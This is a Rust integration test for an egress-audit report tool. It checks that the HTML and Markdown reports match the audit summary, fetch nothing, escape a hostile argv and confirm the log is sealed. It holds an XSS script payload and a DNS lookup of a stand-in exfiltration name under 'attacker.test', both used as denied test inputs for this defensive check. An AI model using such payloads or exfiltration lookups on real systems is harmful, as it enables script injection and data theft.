//! `egressctl audit report` against a real, sealed log: its figures are `audit summary`'s, read
//! back from the DOM a real headless Chromium renders; the page fetches nothing; a hostile argv is
//! shown as text; the verification says the chain is intact and the log sealed.

use std::{
    collections::BTreeMap,
    fs,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
    thread,
    time::{Duration, Instant},
};

use egressd_tests::*;
use serde_json::Value;

/// A loopback address like a local stub resolver's, where nothing listens: the query is redirected
/// to egressd's resolver, which denies every name (the profile allows none).
const STUB: &str = "127.0.0.153:53";
/// What a hostile tool could put in its command line, to be shown as text, never run.
const EVIL: &str = "<script>document.title='pwned'</script>";

fn audit(d: &Daemon, args: &[&str]) -> Output {
    Command::new(bin("egressctl"))
        .arg("--socket")
        .arg(&d.socket)
        .args(["audit", "--file", d.audit.to_str().unwrap()])
        .args(args)
        .output()
        .unwrap()
}

/// `egressctl audit summary`'s session table: id -> (allowed, denied, lost).
fn summary_sessions(out: &Output) -> BTreeMap<String, (u64, u64, u64)> {
    let text = String::from_utf8_lossy(&out.stdout);
    let mut lines = text.lines();
    assert!(
        lines.next().is_some_and(|l| l.starts_with("SESSION")),
        "{text}"
    );
    lines
        .take_while(|l| !l.trim().is_empty())
        .map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            let n = |i: usize| f[f.len() - i].parse::<u64>().unwrap();
            (f[0].to_string(), (n(3), n(2), n(1)))
        })
        .collect()
}

/// Headless Chromium on a file, in a network namespace of its own (nothing it tried could leave),
/// with a private profile and a net log; killed if it hangs.
fn chromium(scratch: &Scratch, tag: &str, page: &Path, args: &[String]) -> (Output, PathBuf) {
    let profile = scratch.0.join(format!("chromium-{tag}"));
    let netlog = scratch.0.join(format!("netlog-{tag}.json"));
    let mut child = Command::new("unshare")
        .args([
            "-n",
            "chromium",
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg(format!("--log-net-log={}", netlog.display()))
        .args([
            "--no-first-run",
            "--hide-scrollbars",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-default-apps",
            "--disable-extensions",
        ])
        .args(args)
        .arg(format!("file://{}", page.display()))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("chromium (`cargo xtask bootstrap test` installs it)");
    let deadline = Instant::now() + Duration::from_secs(90);
    // Reads both pipes while waiting: a full pipe must not stall it.
    let (mut so, mut se) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    let out_t = thread::spawn(move || {
        let mut v = Vec::new();
        std::io::Read::read_to_end(&mut so, &mut v).ok();
        v
    });
    let err_t = thread::spawn(move || {
        let mut v = Vec::new();
        std::io::Read::read_to_end(&mut se, &mut v).ok();
        v
    });
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("chromium did not finish in 90 s");
        }
        thread::sleep(Duration::from_millis(50));
    };
    let out = Output {
        status,
        stdout: out_t.join().unwrap(),
        stderr: err_t.join().unwrap(),
    };
    let _ = fs::remove_dir_all(&profile);
    assert!(out.status.success(), "chromium: {}", text(&out));
    (out, netlog)
}

/// The URL requests of a Chromium net log: (url, initiator). A page's requests carry its origin
/// as initiator ("null" for a file); Chromium's own (its updater) carry "not an origin".
fn url_requests(netlog: &Path) -> Vec<(String, String)> {
    let log: Value = serde_json::from_slice(&fs::read(netlog).unwrap())
        .unwrap_or_else(|e| panic!("{}: not JSON: {e}", netlog.display()));
    let start = log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
        .as_u64()
        .expect("URL_REQUEST_START_JOB in the net log's constants");
    log["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["type"].as_u64() == Some(start))
        .filter_map(|e| {
            let url = e["params"]["url"].as_str()?;
            let initiator = e["params"]["initiator"].as_str().unwrap_or("");
            Some((url.to_string(), initiator.to_string()))
        })
        .collect()
}

/// The requests a page made to anything but file: and data: URLs.
fn page_fetches(netlog: &Path) -> Vec<(String, String)> {
    url_requests(netlog)
        .into_iter()
        .filter(|(url, initiator)| {
            !(url.starts_with("file:") || url.starts_with("data:")) && initiator != "not an origin"
        })
        .collect()
}

/// The text of the cell of class `class` in a table row of the dumped DOM.
fn cell(row: &str, class: &str) -> u64 {
    let at = row
        .find(&format!("class=\"num {class}"))
        .unwrap_or_else(|| panic!("no {class} cell in {row}"));
    let rest = &row[at..];
    let v = &rest[rest.find('>').unwrap() + 1..];
    v[..v.find('<').unwrap()]
        .replace(',', "")
        .parse()
        .unwrap_or_else(|e| panic!("{class} in {row}: {e}"))
}

#[test]
fn the_report_has_the_summarys_figures_fetches_nothing_and_says_the_log_is_sealed() {
    assert!(
        Command::new("sh")
            .args(["-c", "command -v chromium"])
            .output()
            .unwrap()
            .status
            .success(),
        "chromium is not installed: `cargo xtask bootstrap test`"
    );
    let mut w = world_audit("report", |_| None, "seal_interval = 1");
    let setup = audit(
        &w.daemon,
        &["setup-keys", "--config", w.daemon.config.to_str().unwrap()],
    );
    assert!(setup.status.success(), "{}", text(&setup));
    let vk = String::from_utf8_lossy(&setup.stdout)
        .lines()
        .find_map(|l| l.trim().strip_prefix("egressd-vk1:").map(str::to_string))
        .map(|k| format!("egressd-vk1:{k}"))
        .unwrap_or_else(|| panic!("no verification key in {}", text(&setup)));
    // Let the daemon take the keys up before the sessions.
    thread::sleep(Duration::from_millis(2500));

    let lo = attempt(&w, NOBODY, "loopback-tcp", "127.0.0.1:0");
    assert_eq!(probe_code(&lo), 0, "{}", text(&lo));
    let out = attempt(&w, NOBODY, "tcp", &w.outside.tcp4());
    assert_eq!(probe_code(&out), 3, "{}", text(&out));
    let probe = probe();
    let name = "exfil-0badc0de.attacker.test";
    let dns = w.daemon.run(
        NOBODY,
        &[probe.to_str().unwrap(), "dns-query", "udp", STUB, name],
    );
    assert!(
        String::from_utf8_lossy(&dns.stdout).contains("rcode=NXDomain"),
        "{}",
        text(&dns)
    );
    let evil = w.daemon.run(NOBODY, &["sh", "-c", "exit 0", EVIL]);
    assert!(evil.status.success(), "{}", text(&evil));
    let ids: Vec<String> = [&lo, &out, &dns, &evil].map(session_id).into();
    for id in &ids {
        records_after_end(&w.daemon, id);
    }
    thread::sleep(Duration::from_millis(1500));
    w.daemon.stop();
    assert_eq!(outside_received(&w), 0);

    let summary = audit(&w.daemon, &["summary"]);
    assert!(summary.status.success(), "{}", text(&summary));
    let sessions = summary_sessions(&summary);
    for id in &ids {
        assert!(sessions.contains_key(id), "{id} not in {}", text(&summary));
    }
    assert!(sessions[&ids[0]].0 > 0, "{sessions:?}");
    assert_eq!(sessions[&ids[1]].1, 1, "{sessions:?}");

    // The HTML report, with the key.
    let page = w.scratch.0.join("report.html");
    let r = audit(
        &w.daemon,
        &["report", "--key", &vk, "--output", page.to_str().unwrap()],
    );
    assert!(r.status.success(), "{}", text(&r));
    let html = fs::read_to_string(&page).unwrap();
    assert!(
        html.contains("default-src 'none'; style-src 'unsafe-inline'; img-src data:"),
        "no CSP"
    );
    assert!(!html.contains(EVIL), "the argv was not escaped");
    assert!(html.contains("&lt;script&gt;document.title="), "{html}");
    for fetchable in [
        "<script", "<link", "<img", "<iframe", "url(", "@import", "src=",
    ] {
        assert!(!html.contains(fetchable), "{fetchable} in the report");
    }
    // The only URL is the SVG namespace (a name, never fetched).
    assert_eq!(
        html.matches("http:").count() + html.matches("https:").count(),
        html.matches("xmlns=\"http://www.w3.org/2000/svg\"").count(),
        "a URL in the report"
    );

    // Chromium renders it; its DOM says what the summary says.
    let (dom, netlog) = chromium(
        &w.scratch,
        "dom",
        &page,
        &["--dump-dom".into(), "--window-size=1280,2000".into()],
    );
    let dom = String::from_utf8_lossy(&dom.stdout).to_string();
    assert!(dom.contains("egressd audit report"), "{dom}");
    // The machine is the one egressd's start record names (sealed with the log), not a guess.
    let host = nix::unistd::gethostname()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    assert!(
        dom.contains(&format!("{host} <span class=\"none\">(machine-id"))
            || dom.contains(&format!(
                "{host} <span class=\"none\">(from egressd's start record"
            )),
        "{dom}"
    );
    for (id, (allowed, denied, lost)) in &sessions {
        let row = dom
            .split(&format!("<tr id=\"session-{id}\">"))
            .nth(1)
            .unwrap_or_else(|| panic!("no row for session {id} in the DOM"));
        let row = &row[..row.find("</tr>").unwrap()];
        assert_eq!(
            (cell(row, "allowed"), cell(row, "denied"), cell(row, "lost")),
            (*allowed, *denied, *lost),
            "session {id}: the report's figures differ from the summary's"
        );
    }
    let total = |f: fn(&(u64, u64, u64)) -> u64| sessions.values().map(f).sum::<u64>();
    for (id, v) in [
        ("total-allowed", total(|t| t.0)),
        ("total-denied", total(|t| t.1)),
        ("total-lost", total(|t| t.2)),
    ] {
        assert!(
            dom.contains(&format!("id=\"{id}\">{v}<")),
            "{id} is not {v}"
        );
    }
    let denied_dests = dom
        .split("id=\"denied-destinations\"")
        .nth(1)
        .expect("a denied destinations table");
    let denied_dests = &denied_dests[..denied_dests.find("</table>").unwrap()];
    assert!(
        denied_dests.contains(&format!("{}:{PORT}/tcp", w.outside.v4))
            && denied_dests.contains(&ids[1]),
        "{denied_dests}"
    );
    let names = dom
        .split("id=\"denied-names\"")
        .nth(1)
        .expect("a DNS names table");
    let names = &names[..names.find("</table>").unwrap()];
    assert!(names.contains(name) && names.contains(&ids[2]), "{names}");
    // The hostile argv is text in the DOM, and did not run (it would have retitled the page).
    assert!(
        dom.contains("&lt;script&gt;document.title="),
        "argv not shown"
    );
    assert!(!dom.contains("<title>pwned"), "the argv ran");
    let verification = dom.split("id=\"verification\"").nth(1).unwrap();
    let verification = &verification[..verification.find("</section>").unwrap()];
    assert!(
        verification.contains("The hash chain is intact:")
            && verification.contains("Sealed up to")
            && verification.contains("Every record is sealed"),
        "{verification}"
    );
    assert!(!verification.contains("BROKEN") && !verification.contains("BAD SEAL"));
    assert_eq!(
        page_fetches(&netlog),
        vec![],
        "the report fetched something"
    );

    // A screenshot: a real rendering, not an empty page.
    let png = w.scratch.0.join("report.png");
    chromium(
        &w.scratch,
        "shot",
        &page,
        &[
            format!("--screenshot={}", png.display()),
            "--window-size=1280,2000".into(),
        ],
    );
    let shot = fs::read(&png).expect("the screenshot");
    assert!(shot.starts_with(b"\x89PNG"), "not a PNG");
    assert!(
        shot.len() > 30_000,
        "a near-empty screenshot: {} bytes",
        shot.len()
    );

    // The net log check sees a page's fetch: a page without the report's CSP that loads an image.
    let control = w.scratch.0.join("control.html");
    fs::write(
        &control,
        "<!DOCTYPE html><p>control</p><img src=\"http://127.0.0.1:65530/x.png\">",
    )
    .unwrap();
    let (_, control_log) = chromium(&w.scratch, "control", &control, &["--dump-dom".into()]);
    let fetched = page_fetches(&control_log);
    assert!(
        fetched
            .iter()
            .any(|(u, _)| u.starts_with("http://127.0.0.1:65530/")),
        "the net log check missed a page's fetch: {:?}",
        url_requests(&control_log)
    );

    // Markdown: the same figures, the same verification, the argv escaped.
    let md = audit(&w.daemon, &["report", "--key", &vk, "--format", "md"]);
    assert!(md.status.success(), "{}", text(&md));
    let md = String::from_utf8_lossy(&md.stdout).to_string();
    assert!(
        md.contains("The hash chain is intact:") && md.contains("Sealed up to"),
        "{md}"
    );
    for (id, (allowed, denied, lost)) in &sessions {
        let row = md
            .lines()
            .find(|l| l.starts_with(&format!("| {id} |")))
            .unwrap_or_else(|| panic!("no row for {id} in {md}"));
        assert!(
            row.contains(&format!("| {allowed} | {denied} | {lost} |")),
            "{id}: {row}"
        );
    }
    assert!(!md.contains("<script>"), "{md}");

    // Without the key it says so; one session, and its figures only.
    let one = audit(
        &w.daemon,
        &["report", "--format", "md", "--session", &ids[1]],
    );
    let one = String::from_utf8_lossy(&one.stdout).to_string();
    assert!(
        one.contains("Seals were not checked: no verification key was given (--key)"),
        "{one}"
    );
    assert!(
        one.contains(&format!("| {} |", ids[1])) && !one.contains(&format!("| {} |", ids[0])),
        "{one}"
    );
    let summary_one = audit(&w.daemon, &["summary", "--session", &ids[1]]);
    assert_eq!(
        summary_sessions(&summary_one),
        BTreeMap::from([(ids[1].clone(), sessions[&ids[1]])])
    );
    drop(w);
}

/// What the outside host received: nothing (the denied connect never left).
fn outside_received(w: &World) -> u64 {
    let c = w.outside.counts();
    c.tcp + c.udp
}
